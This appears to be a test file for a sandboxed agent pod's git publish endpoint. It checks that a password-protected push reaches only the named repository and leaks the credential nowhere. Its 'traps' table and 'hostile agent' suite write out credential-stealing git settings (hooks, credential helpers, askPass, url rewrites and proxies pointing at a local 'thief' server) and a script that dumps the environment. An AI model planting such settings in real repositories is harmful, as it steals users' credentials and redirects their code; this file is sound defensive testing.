/**
 * A real pod commits and pushes to a real git server that asks for a password: what arrives, what is refused, and that
 * nothing which an agent writes into its repository gets the password or another target.
 * Long: it publishes from many repositories that were prepared to mislead git.
 */
import { expect } from "chai";
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { join } from "node:path";
import type { LaunchDocument } from "#shared/wire/pod/launch.ts";
import { eventually } from "../../../support/eventually.ts";
import { type TestPod, TestSession } from "../../../support/pods/test-pod.ts";
import { type GitHttpServer, serveGit } from "../../../support/repositories/git-http-server.ts";
import { git, makeRepository } from "../../../support/repositories/git-repository.ts";
import { loopbackUrl } from "../../../support/machine/loopback-server.ts";

const password = "canary-password-of-ada";
const credential = { username: "ada", password };
const author = { name: "Ada Lovelace", email: "ada@example.com" };

/** A session on a bare repository behind a server with a password. */
class Stage implements AsyncDisposable {
	readonly session = new TestSession();
	readonly bare: string;
	#server: GitHttpServer | undefined;

	constructor() {
		const root = join(this.session.folder, "git");
		this.bare = join(root, "org/shop.git");
		mkdirSync(join(root, "org"), { recursive: true });
		git(root, ["clone", "--quiet", "--bare", makeRepository(join(this.session.folder, "source")), this.bare]);
		git(this.bare, ["config", "http.receivepack", "true"]);
	}

	async start(changes: Partial<LaunchDocument> = {}): Promise<TestPod> {
		this.#server ??= await serveGit(join(this.session.folder, "git"), "ada", password);
		const pod = await this.session.start({
			repositories: [{ url: this.url, branch: "main", base_branch: "", path: "" }],
			secrets_folder: join(this.session.folder, "secrets"),
			secrets: { variables: {}, files: [], git_credentials: [this.withPassword], warnings: [] },
			...changes,
		});
		return pod;
	}

	/** Starts a pod whose launch has no credential any more, on the workspace of an earlier one. */
	async startWithout(): Promise<TestPod> {
		const first = await this.start();
		await first.stop();
		const { secrets, secrets_folder, ...changes } = {
			secrets: undefined,
			secrets_folder: undefined,
			repositories: [{ url: this.url, branch: "main", base_branch: "", path: "" }],
		};
		expect([secrets, secrets_folder]).to.deep.equal([undefined, undefined]);
		return this.session.start(changes);
	}

	get url(): string {
		return `${this.#server?.url}/org/shop.git`;
	}

	get withPassword(): string {
		return this.url.replace("http://", `http://ada:${password}@`).replace("/org/shop.git", "");
	}

	order(changes: object = {}): object {
		return { path: "", url: this.url, branch: "work", message: "Fix the shop", author, credential, ...changes };
	}

	/** Returns the newest commit of a branch at the server; empty when there is none. */
	at(branch: string, format = "%H"): string {
		try {
			return git(this.bare, ["log", "-1", `--format=${format}`, branch, "--"]).trim();
		} catch {
			return "";
		}
	}

	async [Symbol.asyncDispose](): Promise<void> {
		await this.session[Symbol.asyncDispose]();
		await this.#server?.[Symbol.asyncDispose]();
	}
}

interface Published {
	sha: string;
	branch: string;
	committed: boolean;
	detail: string;
	type: string;
}

async function publish(pod: TestPod, order: object): Promise<Published & { status: number }> {
	const { status, body } = await pod.command("/api/publish", order);
	return { ...(body as Published), status };
}

/** Returns the texts of all files below a folder. */
function everything(folder: string): string {
	const files = readdirSync(folder, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile());
	return files.map((entry) => readFileSync(join(entry.parentPath, entry.name), "latin1")).join("\n");
}

describe("the work of a session", function () {
	this.timeout(90_000);

	it("is committed by its person and pushed; a repetition changes nothing", async () => {
		await using stage = new Stage();
		const pod = await stage.start();
		await pod.ask("$ echo two > two.txt; echo secret > ignored; echo ignored > .gitignore; chmod +x two.txt");
		const first = await publish(pod, stage.order());
		expect(first).to.include({ status: 200, branch: "work", committed: true });
		expect(stage.at("work")).to.equal(first.sha);
		expect(stage.at("work", "%an <%ae> %s")).to.equal("Ada Lovelace <ada@example.com> Fix the shop");
		expect(git(stage.bare, ["ls-tree", "--name-only", "work"])).to.equal(".gitignore\nREADME.md\ntwo.txt\n");
		expect(stage.at("main", "%s")).to.equal("first");
		expect(await publish(pod, stage.order())).to.include({ status: 200, sha: first.sha, committed: false });
		expect((await pod.logs()).join("\n")).not.to.contain(password);
	});

	it("uses the given password for one push, and leaves it nowhere", async () => {
		await using stage = new Stage();
		const pod = await stage.startWithout();
		await pod.ask("$ echo two > two.txt");
		const without = await publish(pod, stage.order({ credential: undefined }));
		expect(without).to.include({ status: 502, type: "PUSH_REFUSED" });
		expect(await publish(pod, stage.order({ credential: { username: "ada", password: "wrong-password" } }))).to.include(
			{
				status: 502,
				type: "PUSH_REFUSED",
			},
		);
		expect((await publish(pod, stage.order())).status).to.equal(200);
		expect(stage.at("work", "%s")).to.equal("Fix the shop");
		const asked = await pod.ask(
			"$ git push origin HEAD:refs/heads/other 2>&1; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'",
		);
		expect(asked.content)
			.to.match(/could not read Username|Authentication failed/)
			.and.not.contain(password);
		expect(everything(stage.session.workspace)).not.to.contain(password);
		expect(everything(join(stage.session.folder, "state"))).not.to.contain(password);
		expect(everything(pod.launch.home)).not.to.contain(password);
		expect((await pod.logs()).join("\n")).not.to.contain(password);
	});

	it("never overwrites commits of others", async () => {
		await using stage = new Stage();
		const pod = await stage.start();
		await pod.ask("$ echo two > two.txt");
		const { sha } = await publish(pod, stage.order());
		const tree = git(stage.bare, ["rev-parse", "work^{tree}"]).trim();
		const other = git(stage.bare, ["commit-tree", tree, "-p", sha, "-m", "of somebody else"]).trim();
		git(stage.bare, ["update-ref", "refs/heads/work", other]);
		await pod.ask("$ echo three > three.txt");
		const refused = await publish(pod, stage.order());
		expect(refused).to.include({ status: 409, type: "PULL_BRANCH_MOVED" });
		expect(refused.detail).to.contain("nothing was overwritten");
		expect(stage.at("work")).to.equal(other);
		await pod.ask("$ git commit --quiet --amend --message rewritten");
		expect((await publish(pod, stage.order())).type).to.equal("PULL_BRANCH_MOVED");
	});

	it("refuses another repository, another folder, and names that no branch can have", async () => {
		await using stage = new Stage();
		const pod = await stage.start();
		const server = await thief();
		for (const [changes, status, type] of [
			[{ url: server.url }, 404, "REPOSITORY_UNKNOWN"],
			[{ path: "../.." }, 404, "REPOSITORY_UNKNOWN"],
			[{ branch: "--mirror" }, 502, "PUSH_REFUSED"],
			[{ branch: "a:refs/heads/main" }, 502, "PUSH_REFUSED"],
			[{ credential: { username: "a\nb", password } }, 400, "REQUEST_REFUSED"],
			[{ message: "" }, 400, "REQUEST_REFUSED"],
		] as const)
			expect(await publish(pod, stage.order(changes)), JSON.stringify(changes)).to.include({ status, type });
		expect(server.heard).to.deep.equal([]);
		await server.close();
		await pod.ask("$ rm -rf .git && ln -s ../source/.git .git");
		expect(await publish(pod, stage.order())).to.include({ status: 404, type: "REPOSITORY_UNKNOWN" });
		expect(git(stage.bare, ["branch", "--format=%(refname:short)"])).to.equal("main\n");
	});

	it("is of the one repository that is named, of several", async () => {
		await using stage = new Stage();
		const first = await stage.start();
		await first.stop();
		const repositories = ["api", "web"].map((path) => ({ url: stage.url, branch: "main", base_branch: "", path }));
		await using several = new TestSession();
		const secrets = { variables: {}, files: [], git_credentials: [stage.withPassword], warnings: [] };
		const pod = await several.start({ repositories, secrets, secrets_folder: join(several.folder, "secrets") });
		await pod.ask("$ echo one > api/one.txt; echo two > web/two.txt; echo beside > beside.txt");
		expect(await publish(pod, stage.order())).to.include({ status: 404, type: "REPOSITORY_UNKNOWN" });
		expect(await publish(pod, stage.order({ path: "web" }))).to.include({ status: 200, committed: true });
		expect(git(stage.bare, ["ls-tree", "--name-only", "work"])).to.equal("README.md\ntwo.txt\n");
		await pod.ask("$ rm -rf api && ln -s web api");
		expect(await publish(pod, stage.order({ path: "api", branch: "other" }))).to.include({ status: 404 });
	});

	it("waits for nobody's turn", async () => {
		await using stage = new Stage();
		const pod = await stage.start();
		const connection = await pod.connect();
		await connection.send("slow", "$ touch begun; while ! test -e end; do sleep 0.1; done");
		await eventually(() => existsSync(join(stage.session.workspace, "begun")));
		const refused = await publish(pod, stage.order());
		expect(refused).to.include({ status: 409, type: "TURN_UNDER_WAY" });
		writeFileSync(join(stage.session.workspace, "end"), "");
		await pod.answer("slow");
		connection.close();
		expect((await publish(pod, stage.order())).status).to.equal(200);
	});
});

/** A server that writes down what it is asked. */
async function thief(): Promise<{ url: string; heard: string[]; close(): Promise<void> }> {
	const heard: string[] = [];
	const server: Server = createServer((request, response) => {
		heard.push(`${request.method} ${request.url} ${request.headers.authorization ?? ""}`);
		response.writeHead(401, { "www-authenticate": 'Basic realm="git"' }).end();
	});
	await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
	return {
		url: `${loopbackUrl(server)}/org/shop.git`,
		heard,
		close: () => new Promise((resolve) => server.close(() => resolve())),
	};
}

/** The settings and programs that an agent can put into its repository; `$TRAP` is a program that keeps its arguments, input and descriptor 3. */
const traps: Readonly<Record<string, string>> = {
	"a hook": "cp $TRAP .git/hooks/pre-push; cp $TRAP .git/hooks/pre-commit; cp $TRAP .git/hooks/reference-transaction",
	"core.hooksPath": "mkdir -p hooks && cp $TRAP hooks/pre-push && git config core.hooksPath $PWD/hooks",
	"credential.helper": "git config credential.helper '!'$TRAP",
	"credential.helper of the server": "git config credential.$ORIGIN.helper '!'$TRAP",
	"core.askPass": "git config core.askPass $TRAP",
	"core.sshCommand": "git config core.sshCommand $TRAP",
	"url.insteadOf": "git config url.$THIEF.insteadOf $URL",
	"url.pushInsteadOf": "git config url.$THIEF.pushInsteadOf $URL",
	"remote.pushUrl": "git config remote.origin.pushUrl $THIEF; git config remote.pushDefault origin",
	"a remote with the name of the URL": 'git config "remote.$URL.pushUrl" $THIEF',
	"http.proxy": "git config http.proxy $THIEF",
	"an included file": "git config --file ~/more url.$THIEF.insteadOf $URL; git config include.path ~/more",
	"a home folder's configuration":
		"git config --global url.$THIEF.insteadOf $URL; git config --global credential.helper '!'$TRAP",
	"gpg.program": "git config commit.gpgSign true; git config gpg.program $TRAP; git config push.gpgSign true",
	"core.fsmonitor": "git config core.fsmonitor $TRAP",
	"core.gitProxy": "git config core.gitProxy $TRAP",
	"core.editor": "git config core.editor $TRAP; git config sequence.editor $TRAP",
	"a filter": "git config filter.trap.clean $TRAP; echo '*.txt filter=trap' > .gitattributes",
};

describe("a hostile agent's repository", function () {
	this.timeout(180_000);
	let stage: Stage;
	let pod: TestPod;
	let server: Awaited<ReturnType<typeof thief>>;
	let n = 0;

	before(async () => {
		stage = new Stage();
		server = await thief();
		pod = await stage.startWithout();
		const trap = 'printf "#!/bin/sh\\n(echo \\$0 \\$@; env; timeout 1 cat; timeout 1 cat <&3) >> $HOME/caught 2>&1\\n"';
		await pod.ask(`$ ${trap} > ~/trap; chmod +x ~/trap; cp -r .git ~/clean`);
	});
	after(async () => {
		await stage?.[Symbol.asyncDispose]();
		await server?.close();
	});

	for (const [name, command] of Object.entries(traps)) {
		it(`gets neither the password nor the push by ${name}`, async () => {
			const branch = `work-${++n}`;
			server.heard.length = 0;
			const names = `TRAP=$HOME/trap THIEF=${server.url} URL=${stage.url} ORIGIN=${new URL(stage.url).origin}`;
			await pod.ask(
				`$ rm -rf .git hooks .gitattributes ~/more ~/caught; cp -r ~/clean .git; export ${names}; ${command}; echo ${n} > work.txt`,
			);
			const { status, sha, detail } = await publish(pod, stage.order({ branch }));
			expect(status, detail).to.equal(200);
			expect(stage.at(branch)).to.equal(sha);
			expect(server.heard).to.deep.equal([]);
			const caught = join(pod.launch.home, "caught");
			expect(existsSync(caught) ? readFileSync(caught, "utf8") : "").not.to.contain(password);
			if (name !== "a filter") expect(existsSync(caught), "the program was started").to.equal(false);
		});
	}
});
